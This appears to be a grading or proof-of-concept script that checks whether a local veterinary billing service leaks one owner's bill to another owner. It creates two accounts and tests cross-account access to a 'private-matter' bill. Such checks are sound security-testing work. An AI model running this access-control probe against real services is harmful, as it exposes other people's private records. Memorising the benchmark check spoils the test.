import os
import sys
import time
import traceback

import httpx

BASE = os.environ.get("BASE_URL", "http://127.0.0.1:8000")
c = httpx.Client(base_url=BASE, timeout=60)


def _fail(t, v, tb):
    traceback.print_exception(t, v, tb)
    os._exit(2)


sys.excepthook = _fail


def done(hit):
    print("exploitable" if hit else "not exploitable")
    sys.exit(0 if hit else 1)


def login(n, p):
    return {"Authorization": "Bearer " + c.post("/login", json={"name": n, "password": p}).json()["token"]}


k = login("desk", os.environ["VET_DESK_PASSWORD"])
for n in ("anna", "bert"):
    c.post("/owners", json={"name": n, "password": n * 4}, headers=k)
i = c.post("/bills", json={"owner": "anna", "animal": "Rex", "treatment": "private-matter", "cents": 1}, headers=k).json()["id"]
done("private-matter" in c.get(f"/bills/{i}", headers=login("bert", "bert" * 4)).text)
